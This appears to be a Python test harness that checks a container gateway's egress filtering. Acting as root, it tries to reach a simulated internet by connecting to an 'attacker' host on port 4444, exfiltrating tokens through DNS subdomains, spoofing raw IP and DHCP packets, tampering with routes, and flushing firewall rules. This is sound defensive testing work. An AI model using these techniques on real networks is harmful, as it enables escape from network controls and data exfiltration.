"""What root tries in a container behind a gateway: `python3 hostile.py CONFIG`. A line of JSON for each: what was tried, what came back.

Judged by content: whatever comes from the simulated internet says INTERNET. Each try carries a token, which the tests look for on the wire
outside and in all that the simulated internet has seen.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time
from typing import Any

CONFIG: dict[str, Any] = {}
MARK = b"INTERNET"
TIMEOUT = 2.0


def token(ident: str) -> bytes:
    return f"px{ident.lower()}{CONFIG['run']}".encode()


def sh(command: str) -> str:
    done = subprocess.run(["sh", "-c", command], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
    return done.stdout


def read(connection: socket.socket, timeout: float = TIMEOUT) -> bytes:
    data, end = b"", time.monotonic() + timeout
    while time.monotonic() < end and MARK not in data:
        connection.settimeout(max(0.05, end - time.monotonic()))
        try:
            piece = connection.recv(65536)
        except OSError as error:
            return data + repr(error).encode() * (not data)
        if not piece:
            break
        data += piece
    return data


def tcp(address: str, port: int, ident: str, uid: int | None = None) -> bytes:
    """What somebody at the other end says, asked and unasked."""
    if uid is not None:
        reader, writer = os.pipe()
        if os.fork() == 0:
            os.setgroups([])
            os.setresgid(uid, uid, uid)
            os.setresuid(uid, uid, uid)
            os.write(writer, tcp(address, port, ident)[:4000])
            os._exit(0)
        os.close(writer)
        with os.fdopen(reader, "rb") as stream:
            return stream.read()
    try:
        with socket.create_connection((address, port), timeout=TIMEOUT) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: " + CONFIG["evil"].encode() + b"\r\nX-Token: " + token(ident) + b"\r\n\r\n")
            return read(connection)
    except OSError as error:
        return repr(error).encode()


def tls(address: str, name: str | None, ident: str) -> bytes:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with socket.create_connection((address, 443), timeout=TIMEOUT) as plain, context.wrap_socket(plain, server_hostname=name) as secure:
            host = (name or CONFIG["evil"]).encode()
            secure.sendall(b"GET /" + token(ident) + b" HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n")
            return read(secure)
    except OSError as error:
        return repr(error).encode()


def udp(address: str, port: int, ident: str, data: bytes = b"") -> bytes:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as talk:
        talk.settimeout(1.0)
        try:
            talk.connect((address, port))
            talk.send(data or b"hello " + token(ident))
            return talk.recv(4096)
        except OSError as error:
            return repr(error).encode()


def question(name: str) -> bytes:
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_packet(source: str, target: str, protocol: int, body: bytes) -> bytes:
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def tcp_segment(source: str, target: str, ports: tuple[int, int], number: int, flags: int, data: bytes = b"") -> bytes:
    head = struct.pack("!HHIIBBHHH", *ports, number, 0, 5 << 4, flags, 1024, 0, 0) + data
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(head))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def udp_segment(ports: tuple[int, int], data: bytes) -> bytes:
    return struct.pack("!HHHH", *ports, 8 + len(data), 0) + data


def echo(data: bytes) -> bytes:
    head = struct.pack("!BBHHH", 8, 0, 0, 77, 1) + data
    return head[:2] + struct.pack("!H", checksum(head)) + head[4:]


def frames(packets: list[tuple[int, bytes]], listen: float = 1.0, peer: str = "", own: str = "") -> bytes:
    """Straight to the gateway's card, or another one, whatever the routes say; then what comes back from the simulated internet."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as wire:
        wire.bind(("eth0", 3))
        sender = bytes.fromhex(own.replace(":", "")) or wire.getsockname()[4]
        card = bytes.fromhex((peer or CONFIG["gateway_mac"]).replace(":", ""))
        for kind, packet in packets:
            wire.send(card + sender + struct.pack("!H", kind) + packet)
        heard, end = b"", time.monotonic() + listen
        while time.monotonic() < end:
            wire.settimeout(max(0.05, end - time.monotonic()))
            with contextlib.suppress(OSError):
                frame = wire.recv(65535)
                if MARK in frame:
                    heard += frame
        return heard


# -- the tries --------------------------------------------------------------------------------------------------
def g01() -> list[bytes]:
    attacker = CONFIG["attacker"]
    return [
        tls(attacker, CONFIG["evil"], "g01"),
        tls(attacker, None, "g01"),
        tls(CONFIG["cdn"], CONFIG["other"], "g01"),
        tcp(attacker, 443, "g01"),
    ]


def g02() -> list[bytes]:
    found = [tcp(CONFIG["attacker"], port, "g02") for port in (4444, 22, 80, 8443, 8080, 853)]
    return found + [udp(CONFIG["attacker"], port, "g02") for port in (4444, 443, 123, 53, 67)]


def g03() -> list[bytes]:
    """A name server of one's own; what was asked is what the tests look for outside."""
    name = f"{token('g03').decode()}.{CONFIG['evil']}"
    found = [udp(server, 53, "g03", question(name)) for server in (CONFIG["foreign_dns"], CONFIG["dns"], CONFIG["gateway"])]
    with contextlib.suppress(OSError), socket.create_connection((CONFIG["foreign_dns"], 53), timeout=TIMEOUT) as talk:
        talk.sendall(struct.pack("!H", len(question(name))) + question(name))
        found.append(read(talk))
    # No such name, and nothing else.
    return [
        b"INTERNET: it was answered" if len(answer) > 12 and answer[:2] == b"\x12\x67" and answer[3] & 15 != 3 else answer
        for answer in found
    ]


def g04() -> list[bytes]:
    routes = (CONFIG["attacker"], CONFIG["lan_host"], CONFIG["host"])
    for target in routes:
        sh(f"ip route replace {target}/32 via {CONFIG['gateway']} dev eth0 onlink")
    found = [tcp(target, port, "g04") for target, port in zip(routes, (4444, 80, CONFIG["host_port"]), strict=True)]
    # And past its address there, by its card alone.
    for target in routes:
        sh(f"ip route replace {target}/32 dev eth0; ip neigh replace {target} lladdr {CONFIG['gateway_mac']} dev eth0")
    found += [tcp(target, port, "g04") for target, port in zip(routes, (4444, 80, CONFIG["host_port"]), strict=True)]
    for target in routes:
        sh(f"ip route del {target}/32; ip neigh del {target} dev eth0")
    return found


def g05() -> list[bytes]:
    own, data = CONFIG["own"], token("g05")
    targets = (CONFIG["attacker"], CONFIG["host"], CONFIG["gateway_outside"])
    return [frames([(0x0800, ip_packet(own, target, 1, echo(data))) for target in targets])]


def g06() -> list[bytes]:
    """Under another's address: what is refused must not be told to that one either. Ports and numbers carry data too."""
    attacker, data, found = CONFIG["attacker"], token("g06"), []
    for source in (attacker, CONFIG["host"], CONFIG["gateway"], CONFIG["gateway_outside"], "127.0.0.1", "10.99.0.255"):
        for target in (CONFIG["gateway"], CONFIG["gateway_outside"], CONFIG["cdn"], "255.255.255.255"):
            packets = [
                ip_packet(source, target, 6, tcp_segment(source, target, (31337, port), 0x70780666, 2, data)) for port in (443, 4444, 22)
            ]
            packets += [ip_packet(source, target, 17, udp_segment((31337, port), data)) for port in (53, 4444)]
            packets += [ip_packet(source, target, 17, udp_segment((68, 67), data)), ip_packet(source, target, 1, echo(data))]
            # An answer to nothing, and an error about a connection that the proxy may have.
            packets.append(ip_packet(source, target, 6, tcp_segment(source, target, (443, 31337), 0x70780666, 18, data)))
            packets.append(ip_packet(source, target, 1, struct.pack("!BBHI", 3, 4, 0, 0) + ip_packet(target, attacker, 6, data)))
            found.append(frames([(0x0800, packet) for packet in packets], listen=0.05))
    # A relay agent says where the answer is to go to.
    request = struct.pack(
        "!BBBB4sHH4s4s4s4s16s192x4s",
        1,
        1,
        6,
        0,
        b"px06",
        0,
        0,
        bytes(4),
        bytes(4),
        bytes(4),
        socket.inet_aton(attacker),
        b"\2PX06",
        b"\x63\x82\x53\x63",
    )
    found.append(
        frames([(0x0800, ip_packet("0.0.0.0", "255.255.255.255", 17, udp_segment((68, 67), request + b"\x35\x01\x01\xff" + data)))])
    )
    # As a real address of this interface, so that answers would come.
    sh(f"ip addr add {attacker}/32 dev eth0")
    with contextlib.suppress(OSError), socket.create_connection((CONFIG["cdn"], 443), timeout=1, source_address=(attacker, 0)) as made:
        found.append(b"INTERNET: a connection from there " + repr(made).encode())
    sh(f"ip addr del {attacker}/32 dev eth0")
    return found


def g07() -> list[bytes]:
    sh("sysctl -qw net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.eth0.disable_ipv6=0")
    sh("ip -6 addr replace 2001:db8:51::dead/64 dev eth0 nodad; ip -6 route replace default dev eth0")
    for target in CONFIG["attacker6"], CONFIG["cdn6"]:
        sh(f"ip -6 neigh replace {target} lladdr {CONFIG['gateway_mac']} dev eth0")
    found = [
        tls(CONFIG["attacker6"], CONFIG["evil"], "g07"),
        tls(CONFIG["cdn6"], CONFIG["api"], "g07"),
        tcp(CONFIG["attacker6"], 4444, "g07"),
    ]
    found += [udp(CONFIG["attacker6"], 53, "g07"), udp("ff02::1%eth0", 4444, "g07")]
    sh("ip -6 route del default dev eth0; ip -6 addr del 2001:db8:51::dead/64 dev eth0")
    return found


def g08() -> list[bytes]:
    found = []
    for uid in CONFIG["uids"]:
        found += [tcp(CONFIG["attacker"], port, "g08", uid) for port in (4444, 80)]
    return found


def g09() -> list[bytes]:
    """The gateway's own doors; the proxy's are for names, and one of them is for nobody who knocks there himself."""
    found = []
    for address in (CONFIG["gateway"], CONFIG["gateway_outside"]):
        for port in (22, 8445, 5354, 9):
            said = tcp(address, port, "g09")
            found.append(b"INTERNET: " + said if b"SSH-" in said or b"HTTP/" in said else said)
    return found


def g10() -> list[bytes]:
    """What is behind another gateway, and that one itself."""
    found = []
    for address in CONFIG["others"]:
        sh(f"ip route replace {address}/32 via {CONFIG['gateway']} dev eth0 onlink")
        for port in (22, 53, 4022):
            said = tcp(address, port, "g10")
            found.append(b"INTERNET: " + said if b"SSH-" in said else said)
        sh(f"ip route del {address}/32")
    return found


def works() -> dict[str, bool]:
    """What has to go on working."""
    api = tls(CONFIG["cdn"], CONFIG["api"], "w01")
    with contextlib.suppress(OSError):
        api = tls(socket.getaddrinfo(CONFIG["api"], 443, socket.AF_INET)[0][4][0], CONFIG["api"], "w01")
    forge = b""
    with contextlib.suppress(OSError), socket.create_connection((CONFIG["git"], 22), timeout=4) as made:
        forge = made.recv(200)
    mirror = service = b""
    with contextlib.suppress(OSError), socket.create_connection((CONFIG["mirror"], 80), timeout=4) as made:
        made.sendall(b"GET / HTTP/1.1\r\nHost: " + CONFIG["mirror"].encode() + b"\r\nConnection: close\r\n\r\n")
        mirror = read(made)
    with contextlib.suppress(OSError), socket.create_connection((CONFIG["service"], 8443), timeout=4) as made:
        service = read(made, 3)
    return {
        "https": b'"site": "%s"' % CONFIG["api"].encode() in api,
        "forge": forge.startswith(b"SSH-2.0-INTERNET"),
        "mirror": b'"site": "%s"' % CONFIG["mirror"].encode() in mirror,
        "range": MARK in service,
    }


def g11() -> list[bytes]:
    """The machine that the bridge is on: it has no address there, but it may answer for those that it has elsewhere, and it forwards."""
    found, data = [], token("g11")
    targets = (CONFIG["attacker"], CONFIG["host"], CONFIG["cdn"])
    for target in targets:
        sh(f"ip route replace {target}/32 dev eth0")
        found += [tcp(target, port, "g11") for port in (CONFIG["host_port"], 4444)]
        sh(f"ip route del {target}/32")
    # By the card of the bridge itself, which is no secret to it, and whatever comes back to whoever.
    for source in (CONFIG["own"], CONFIG["gateway_outside"]):
        packets = []
        for target in targets:
            packets += [ip_packet(source, target, 17, udp_segment((31111, port), data)) for port in (53, 4444, CONFIG["host_port"])]
            packets += [ip_packet(source, target, 1, echo(data))]
            packets += [ip_packet(source, target, 6, tcp_segment(source, target, (31111, 4444), 0x70780111, 2, data))]
        found.append(frames([(0x0800, packet) for packet in packets], listen=0.3, peer=CONFIG["bridge_mac"]))
        found.append(frames([(0x0800, packet) for packet in packets], listen=0.3, peer="ff:ff:ff:ff:ff:ff"))
        # As if they came from there.
        found.append(frames([(0x0800, packet) for packet in packets], listen=0.3, peer=CONFIG["bridge_mac"], own=CONFIG["bridge_mac"]))
    # And of version 6, which it makes up addresses for.
    sh("sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0")
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as talk:
        own = [line.split()[3].partition("/")[0] for line in sh("ip -o -6 addr show dev eth0").splitlines()]
        talk.settimeout(1.0)
        talk.sendto(struct.pack("!BBHHH", 128, 0, 0, 7, 7) + data, ("ff02::1%eth0", 0))
        with contextlib.suppress(TimeoutError):
            while True:
                _data, peer = talk.recvfrom(2000)
                if peer[0].partition("%")[0] not in own:
                    found.append(b"INTERNET: somebody answers on the link: " + peer[0].encode())
    return found


TRIES = {"G01": g01, "G02": g02, "G03": g03, "G04": g04, "G05": g05, "G06": g06, "G07": g07, "G08": g08, "G09": g09, "G10": g10, "G11": g11}


def main() -> None:
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:2"
    CONFIG.update(json.loads(sys.argv[1]))
    # Whatever rules the container may have of its own.
    sh("nft flush ruleset; iptables -F; iptables -P OUTPUT ACCEPT")
    for ident in CONFIG["only"] if CONFIG["only"] is not None else TRIES:
        began = time.monotonic()
        try:
            found = TRIES[ident]()
        except Exception as error:
            found = [f"INTERNET: the try itself has failed: {error!r}".encode()]
        through = [answer.decode("latin-1")[:200] for answer in found if MARK in answer]
        held = [answer.decode("latin-1")[:60] for answer in found if MARK not in answer]
        print(json.dumps({"id": ident, "through": through, "held": held, "seconds": time.monotonic() - began}), flush=True)
    print(json.dumps({"id": "works", **works()}), flush=True)


if __name__ == "__main__":
    main()
